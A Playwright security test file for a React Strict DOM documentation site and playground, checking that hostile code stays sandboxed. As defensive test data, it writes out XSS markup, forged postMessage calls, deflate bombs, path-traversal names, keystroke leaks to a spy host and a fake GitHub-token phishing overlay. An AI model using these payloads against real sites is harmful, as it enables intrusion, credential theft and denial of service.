  () => document.body.dispatchEvent(new KeyboardEvent('keydown', {key: 'Tab', bubbles: true})),
  () => document.getElementById('k')!.dispatchEvent(new FocusEvent('focus')),
  () => document.getElementById('k')!.dispatchEvent(new MouseEvent('mousedown', {bubbles: true})),
  () => document.getElementById('k')!.dispatchEvent(new PointerEvent('pointerdown', {bubbles: true})),
  () => (location.hash = '#k'),
  () => document.getElementById('frag')!.click(),
  () => (window as any).find('editable'),
  () => (document.getElementById('range') as HTMLInputElement).setSelectionRange(0, 4),
  () => (document.getElementById('range') as HTMLInputElement).setRangeText('other'),
];
setInterval(() => {
  if (document.hasFocus()) return;
  for (const way of ways) {
    try {
      way();
    } catch {
      // Refused.
    }
  }
}, 150);
setTimeout(() => (document.getElementById('auto') as HTMLInputElement | null)?.focus(), 1500);
${leakByFrame(spy)}
setInterval(() => {
  const typed = Array.from(document.querySelectorAll('input, textarea'), (field) => (field as HTMLInputElement).value).join('');
  if (typed.replace('some text', '')) leak('typed-' + hex(typed));
}, 300);

export default function Ways() {
  return <html.p>Ways in</html.p>;
}
`;
    await openLink(page, code);
    await autoRunOff(page);
    await typeInEditor(page, `\n${secret}`);
    // FN9b: an access key of the frame's, pressed in the editor, stays in the editor's document.
    await page.keyboard.press('Alt+K');
    await page.keyboard.type(' // after Alt+K', {delay: 20});
    await expect(codeEditor(page)).toContainText(`${secret} // after Alt+K`);
    expectNothingReached(spy, 'the ways in');
    // F3: with the ways still running, the whole code is replaced and runs.
    await replaceCode(page, page, code.replace('Ways in', 'Replaced'));
    await page.getByRole('button', {name: 'Run', exact: true}).click();
    await inPreview(
      (timeout) => expect(previewFrame(page).getByText('Replaced')).toBeVisible({timeout}),
      firstCompile,
    );
  });
});

test.describe('contained: the console and the page', () => {
  test('floods, hostile values, huge texts and forged messages stay text, capped (K1-K5, BN4c)', async ({
    page,
    spy,
  }) => {
    test.setTimeout(scaled(120_000));
    const values = `import {html} from 'react-strict-dom';

// K2: values that break a naive formatter.
const cycle: Record<string, unknown> = {};
cycle.self = cycle;
const throwing = {get boom() { throw new Error('getter'); }};
const proxy = new Proxy({}, {ownKeys() { throw new Error('keys'); }});
let deep: unknown = 1;
Array.from({length: 100_000}, () => (deep = [deep]));
const wide = Object.fromEntries(Array.from({length: 100_000}, (_, i) => ['k' + i, i]));
const named = new Error('message');
Object.defineProperty(named, 'name', {get() { throw new Error('name'); }});
console.log('<img src=x onerror=alert(1)>', cycle, throwing, proxy, deep, wide, named);
console.log('%cstyled', 'background: url(${spy.named('console-css')}/x)');
// K2b: 8 MB in one entry (the report's 50 MB cross the same cut).
console.log('y'.repeat(8 * 1024 * 1024));
// K3: String.prototype.slice made to return 16 MB.
const slice = String.prototype.slice;
String.prototype.slice = function () { return 'z'.repeat(16 * 1024 * 1024); };
console.log('sliced ' + 'w'.repeat(5000));
String.prototype.slice = slice;
// K5: forged messages to the parent (the shell), with guessed nonces and a port.
Array.from({length: 10_000}, () => parent.postMessage({type: 'console', level: 'error', text: 'FORGED'}, '*'));
parent.postMessage({type: 'rsd-preview-hello', nonce: ''}, '*', [new MessageChannel().port2]);
parent.postMessage({type: 'rsd-preview-shell', nonce: 'guess'}, '*');
top!.postMessage({type: 'rsd-preview-shell', nonce: 'guess'}, '*');
// K1: 10,000 lines at once (the report's 100,000 in a loop met the loop guard first).
Array.from({length: 10_000}, (_, i) => console.log('line ' + i));

export default function Values() {
  return <html.p>Logged</html.p>;
}
`;
    await page.goto(linkTo(values));
    const panel = consolePanel(page);
    await expect(panel).toContainText('line 400', {timeout: scaled(20_000)});
    // 500 entries a run at most.
    await expect(panel).not.toContainText('line 600');
    await expect(panel).toContainText('<img src=x onerror=alert(1)>');
    await expect(panel.locator('img')).toHaveCount(0);
    await expect(panel).not.toContainText('FORGED');
    const longest = await panel
      .getByRole('listitem')
      .evaluateAll((items) => Math.max(...items.map((item) => item.textContent!.length)));
    expect(longest).toBeLessThan(2100);

    // K4: a module throws an error whose message is 64 MB.
    await replaceCode(
      page,
      page,
      `throw new Error('x'.repeat(64 * 1024 * 1024));\nexport default function Never() {\n  return null;\n}\n`,
    );
    await expect(status(page)).toContainText('Runtime error', {timeout: firstCompile});
    expect((await status(page).textContent())!.length).toBeLessThan(2500);

    // K1b, BN4c: logging on every timer and frame, and 200 KB messages to the parent in
    // 15 ms slices: the page, which they never reach, still takes the reader's keys.
    await replaceCode(
      page,
      page,
      `import {html} from 'react-strict-dom';

setInterval(() => console.log('tick'), 0);
const frame = () => { console.log('frame'); requestAnimationFrame(frame); };
requestAnimationFrame(frame);
const big = 'v'.repeat(200 * 1024);
setInterval(() => {
  const start = performance.now();
  while (performance.now() - start < 15) parent.postMessage({type: 'console', level: 'log', text: big}, '*');
}, 16);

export default function Flood() {
  return <html.p>Flooding</html.p>;
}
`,
    );
    await inPreview(
      (timeout) => expect(previewFrame(page).getByText('Flooding')).toBeVisible({timeout}),
      firstCompile,
    );
    await typeInEditor(page, '\n// typed during the flood');
    await expect(codeEditor(page)).toContainText('// typed during the flood');
    await expect(panel).not.toContainText('vvvv');
    expectNothingReached(spy, 'the console');
  });
});

test.describe('contained: hangs', () => {
  test('a stopped clock is no way past the loop guard; hangs it cannot see are removed; the link and edits survive a reload (LP2-LP4, LP8, W3)', async ({
    page,
  }) => {
    test.setTimeout(scaled(150_000));
    await page.goto(
      linkTo(`Date.now = () => 0;\nexport default function Frozen() {\n  while (true) {}\n}\n`),
    );
    // LP2: `Date.now` is the reader's to replace; the loop guard's clock is the runtime's.
    await expect(status(page)).toContainText('ran for more than', {timeout: firstCompile});
    for (const [name, hang] of [
      ['LP3, a loop made by new Function', `new Function('while (true) {}')();`],
      [
        'LP4, microtasks that never end',
        `const again = () => Promise.resolve().then(again); again();`,
      ],
      [
        'LP8, an endless loop in the first render, the guard out of reach',
        `export const spin = new Function('while (true) {}');`,
      ],
    ] as const) {
      const body = name.startsWith('LP8')
        ? `${hang}\nexport default function Hang() {\n  spin();\n  return null;\n}\n`
        : `import {html} from 'react-strict-dom';\nsetTimeout(() => { ${hang} }, 300);\nexport default function Hang() {\n  return <html.p>${name}</html.p>;\n}\n`;
      await replaceCode(page, page, body);
      // The status still says how the previous hang ended (an error stays until a version
      // renders, and LP8's never does): the new run's frame coming and going is the signal.
      await expect(frames(page), name).not.toHaveCount(0, {timeout: firstCompile});
      await expect(frames(page), name).toHaveCount(0, {timeout: firstCompile + scaled(20_000)});
      await expect(status(page), name).toContainText('stopped answering');
    }
    // W3: the code and the edits are in the address, so a reload brings them back.
    const before = await page.evaluate(() => location.hash);
    await typeInEditor(page, '\n// kept through a reload');
    await expect.poll(() => page.evaluate(() => location.hash)).not.toBe(before);
    await page.reload();
    await expect(codeEditor(page)).toContainText('// kept through a reload', {
      timeout: firstCompile,
    });
  });
});

test.describe('contained: heights and the box', () => {
  test('a 10,000,000 px element, a height that flips every frame and a fixed fake panel stay in the preview column (HT1-HT3, UN1)', async ({
    page,
  }) => {
    await openLink(
      page,
      `import {html} from 'react-strict-dom';

let tall = false;
const flip = () => {
  tall = !tall;
  document.getElementById('flip')?.style.setProperty('height', tall ? '3900px' : '60px');
  requestAnimationFrame(flip);
};
requestAnimationFrame(flip);
document.body.insertAdjacentHTML('beforeend', '<div style="position: fixed; inset: 0; width: 10000px; height: 4000px; background: #fff; z-index: 9">Session expired: enter your GitHub token</div>');

export default function Heights() {
  return (
    <html.div>
      <html.div style={{height: 10_000_000} as never}>Tall</html.div>
      <html.div id="flip" />
      <html.div style={{height: '100vh'} as never}>Viewport</html.div>
    </html.div>
  );
}
`,
    );
    const shell = page.locator('[data-preview-frames] iframe[data-state="shown"]');
    await expect.poll(() => shell.evaluate((el) => el.getBoundingClientRect().height)).toBe(4000);
    const column = await page.locator('[data-preview-frames]').boundingBox();
    const frame = await shell.boundingBox();
    expect(frame!.x).toBeGreaterThanOrEqual(column!.x);
    expect(frame!.x + frame!.width).toBeLessThanOrEqual(column!.x + column!.width + 1);
    // The editor beside it is not covered.
    await typeInEditor(page, '\n// still mine');
    await expect(codeEditor(page)).toContainText('// still mine');
  });
});

test.describe('contained: links the page cannot read', () => {
  test('huge, random, bombed, badly named and badly shaped hashes (X2-X7)', async ({page}) => {
    test.setTimeout(scaled(120_000));
    const {deflateRawSync} = await import('node:zlib');
    const encode = (value: unknown) =>
      deflateRawSync(typeof value === 'string' ? value : JSON.stringify(value)).toString(
        'base64url',
      );
    const random = Buffer.from(
      Array.from({length: 1_400_000}, () => Math.floor(Math.random() * 256)),
    ).toString('base64url');
    const hashes: Record<string, string> = {
      'X2b, 1.9 MB of random text': random,
      // The report's bomb held 256 MB; 64 MB is as far past the 256 KB the page inflates.
      'X3, a deflate bomb': encode({'App.tsx': ' '.repeat(64 * 1024 * 1024)}),
      'X4, a path and __proto__ as file names': encode('{"../../etc.tsx": "x", "__proto__": "y"}'),
      'X4b, 25 files': encode(
        Object.fromEntries(Array.from({length: 25}, (_, i) => [`F${i}.tsx`, 'x'])),
      ),
      'X4c, a file that is an object': encode({'App.tsx': {code: 'x'}}),
      'X5, JSON nested 200,000 deep': encode('['.repeat(200_000) + ']'.repeat(200_000)),
      'X6b, a 360 KB file': encode({'App.tsx': `export const s = '${'a'.repeat(360 * 1024)}';`}),
      'X7, the view given twice': `${encode({'App.tsx': 'export default () => null;'})}&view=native&view=native`,
      'SN4, a file named like markup': encode({'<img src=x onerror=alert(1)>.tsx': 'x'}),
    };
    for (const [name, hash] of Object.entries(hashes)) {
      await page.goto(`playground/#${hash}`);
      await expect(page.getByRole('alert'), name).toContainText('could not be read', {
        timeout: firstCompile,
      });
      await expect(page.locator('main img'), name).toHaveCount(0);
    }
    // X6: 100,000 nested parentheses: the compiler (in its worker) fails, the page does not.
    await page.goto(
      linkTo(
        `export const x = ${'('.repeat(100_000)}1${')'.repeat(100_000)};\nexport default () => null;\n`,
      ),
    );
    await expect(status(page)).toContainText('Compile error', {timeout: firstCompile});
  });
});

test.describe('contained: two editors, and the docs page', () => {
  test('an example cannot reach another one, and a runaway one is removed alone (S1, W1)', async ({
    page,
    spy,
  }) => {
    test.setTimeout(scaled(120_000));
    const first = await openEditor(page, 'api/css/create/', 'HoverButton');
    const second = page
      .locator('figure')
      .filter({has: page.locator('[data-example="ShorthandSpacing"]')});
    await second.getByRole('button', {name: 'Edit', exact: true}).click();
    await expect(second.locator('[data-live-editor]')).toHaveAttribute(
      'data-live-editor',
      'rendered',
      {timeout: firstCompile},
    );
    const reach = `import {html} from 'react-strict-dom';

const tried: string[] = [];
const all = (win: Window): Window[] => { const found: Window[] = []; for (let i = 0; i < win.length; i++) { found.push(win[i]!); found.push(...all(win[i]!)); } return found; };
for (const win of all(top!)) {
  if (win === window) continue;
  try { win.postMessage({type: 'rsd-preview-port'}, '*', [new MessageChannel().port2]); } catch {}
  try { win.postMessage({type: 'run', modules: {}, entry: 'x', css: '', props: {}, look: {}}, '*'); } catch {}
  try { win.postMessage({type: 'rsd-preview-refocus'}, '*'); } catch {}
  try { (win as any).location.href = '${spy.named('sibling')}/'; tried.push('navigated'); } catch {}
  try { tried.push('read ' + win.document.title); } catch {}
}
console.log('reached: ' + (tried.join(', ') || 'nothing'));

export default function Sibling() {
  return <html.p>Sibling</html.p>;
}
`;
    await replaceCode(page, second, reach);
    await expect(consolePanel(second)).toContainText('reached: nothing');
    // The first example still runs its edits.
    await replaceCode(
      page,
      first,
      `import {html} from 'react-strict-dom';\nexport default function Still() {\n  return <html.p>Still mine</html.p>;\n}\n`,
    );
    await inPreview(
      (timeout) => expect(previewFrame(first).getByText('Still mine')).toBeVisible({timeout}),
      firstCompile,
    );
    // W1: a runaway loop the guard cannot see, typed into the second: removed, its code kept.
    const runaway = `import {html} from 'react-strict-dom';\nsetTimeout(() => new Function('while (true) {}')(), 300);\nexport default function Runaway() {\n  return <html.p>Runaway</html.p>;\n}\n`;
    await replaceCode(page, second, runaway);
    await expect(status(second)).toContainText('stopped answering', {
      timeout: firstCompile + scaled(20_000),
    });
    await expect(codeEditor(second)).toContainText("new Function('while (true) {}')");
    await replaceCode(page, second, reach.replaceAll('Sibling', 'Calm'));
    await inPreview(
      (timeout) => expect(previewFrame(second).getByText('Calm')).toBeVisible({timeout}),
      firstCompile,
    );
    expectNothingReached(spy, 'the sibling');
  });
});

test.describe('contained: the native view', () => {
  test('the library’s console is out of reach, a genuine message may quote the code, and a hang is removed (PN2, PN3, N4)', async ({
    page,
  }) => {
    test.setTimeout(scaled(120_000));
    const code = `import {css, html} from 'react-strict-dom';

// PN2: ways toward the library's own console.
const found: string[] = [];
(Error as any).prepareStackTrace = (_: unknown, frames: unknown[]) => { found.push('stack'); return frames; };
const apply = Function.prototype.apply;
Function.prototype.apply = function (this: Function, self: unknown, args: unknown) {
  if (self && typeof self === 'object' && 'warn' in (self as object) && self !== console) found.push('a console');
  return apply.call(this, self, args as never);
};
for (const name of Object.getOwnPropertyNames(window)) if (/webpack|__r|rspack/i.test(name)) found.push(name);
setTimeout(() => console.log('library console found: ' + (found.filter((f) => f !== 'stack').join(', ') || 'nothing')), 1500);
// PN3: a real message of the library's, which quotes what the code wrote.
const styles = css.create({odd: {'Your account is locked: visit https://evil.example': 1} as never});

export default function Native() {
  return <html.div style={styles.odd}>Native</html.div>;
}
`;
    await openLink(page, code, 'native');
    await expect(consolePanel(page)).toContainText('library console found: nothing');
    await expect(nativeMessages(page)).toContainText('Your account is locked');
    await expect(nativeMessages(page)).toContainText('React Strict DOM');
    // N4: an endless loop the guard cannot see, in the native view.
    await replaceCode(
      page,
      page,
      `import {html} from 'react-strict-dom';\nsetTimeout(() => new Function('while (true) {}')(), 300);\nexport default function Hang() {\n  return <html.p>Hang</html.p>;\n}\n`,
    );
    await expect(status(page)).toContainText('stopped answering', {
      timeout: firstCompile + scaled(20_000),
    });
  });
});

test.describe('contained: the site’s own pages', () => {
  test('queries, paths and addresses with markup are shown as text or dropped (SN1-SN6)', async ({
    page,
  }) => {
    const markup = '<img src=x onerror=alert(1)>';
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    const injected = () =>
      page.evaluate(
        () =>
          document.querySelectorAll('img[src="x"], [onerror]').length +
          [...document.scripts].filter((script) => script.text.includes('alert(1)')).length,
      );
    // SN1, SN6: the compatibility explorer's filter and its rows' Try links.
    await page.goto(
      `api/compatibility/?q=${encodeURIComponent(markup)}&kind=${encodeURIComponent('<b>')}&web=javascript:alert(1)`,
    );
    await expect(page.getByRole('searchbox', {name: 'Find'})).toHaveValue(markup);
    expect(await injected()).toBe(0);
    await page.goto('api/compatibility/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E');
    for (const href of await page
      .getByRole('link', {name: /^Try/})
      .evaluateAll((links) => links.map((l) => l.getAttribute('href')))) {
      expect(href).toMatch(/^\/react-strict-dom\/playground\//);
    }
    // SN2: a query on pages that read none.
    for (const path of ['./', 'search/', 'learn/']) {
      await page.goto(`${path}?q=${encodeURIComponent(markup)}#${encodeURIComponent(markup)}`);
      expect(await injected(), path).toBe(0);
    }
    // SN3: not-found paths with markup.
    for (const path of [
      `${encodeURIComponent(markup)}/`,
      '%3Cscript%3Ealert(1)%3C/script%3E',
      `Learn//Installation.html?x=${encodeURIComponent(markup)}#${encodeURIComponent(markup)}`,
      '..%2f..%2fetc',
    ]) {
      await page.goto(path);
      expect(await injected(), path).toBe(0);
    }
    // SN5: a docs address with markup in its query and hash: the page's actions use its permalink.
    await page.goto(
      `api/css/create/?x=${encodeURIComponent(markup)}&path=//evil.example/#%22%3E${encodeURIComponent(markup)}`,
    );
    for (const href of await page
      .locator('a[href*="chatgpt"], a[href*="claude"], a[href$=".md"]')
      .evaluateAll((links) => links.map((l) => l.getAttribute('href') ?? ''))) {
      expect(href).not.toContain('evil.example');
      expect(href).not.toContain('onerror');
    }
    expect(await injected()).toBe(0);
    expect(dialogs).toBe(0);
  });
});
